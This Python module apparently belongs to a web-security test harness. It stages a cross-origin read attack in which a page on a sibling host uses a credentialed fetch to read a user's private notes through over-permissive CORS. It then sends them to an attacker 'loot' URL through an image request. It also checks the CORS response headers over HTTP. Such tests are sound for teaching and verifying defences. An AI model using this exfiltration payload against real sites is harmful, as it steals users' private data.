"""CORS that answers whoever asks: a page on another host of the same site reads the visitor's private notes."""

from __future__ import annotations

from ..client import SAME_SITE_FETCH
from ..results import Outcome
from ..stage import Stage
from .base import Attack

SECRET = "4711#"  # noqa: S105 - the door code in ada's private note
_PAGE = """
<script>
  fetch("{url}/api/notes", {{credentials: "include"}})
    .then(r => r.json())
    .then(notes => {{ new Image().src = "{loot}" + encodeURIComponent(notes.map(n => n.body).join("|")) }})
</script>
"""


def in_browser(stage: Stage) -> Outcome:
    """Let ada open the page."""
    html = _PAGE.format(url=stage.url, loot=stage.loot_url("read"))
    path = stage.attacker.publish(f"read-{stage.name}", html)
    with stage.page("ada") as page:
        page.goto(stage.attacker.sibling + path)
        found = stage.received("read", page)
    stolen = SECRET in (found or "")
    proof = f"The attacker received ada's private note: {SECRET}" if stolen else "The attacker received nothing"
    return Outcome(stolen, proof, {"received": found})


def over_http(stage: Stage) -> Outcome:
    """Ask as the page's script does, and read whether a browser would hand it the answer."""
    origin = stage.attacker.sibling
    headers = stage.client("ada").get("/api/notes", {"Origin": origin, **SAME_SITE_FETCH}).headers
    shared = headers.get("Access-Control-Allow-Origin", "")
    readable = shared == origin and headers.get("Access-Control-Allow-Credentials") == "true"
    proof = f"Browsers hand the notes to {origin}" if readable else "Browsers keep the answer from the page"
    return Outcome(readable, proof, {"allow_origin": shared})


ATTACK = Attack(
    slug="cross-origin-read",
    title="Cross-origin read",
    story="A page on another host of the same site reads ada's private notes through CORS that answers everybody.",
    control="headers.cors",
    in_browser=in_browser,
    over_http=over_http,
)
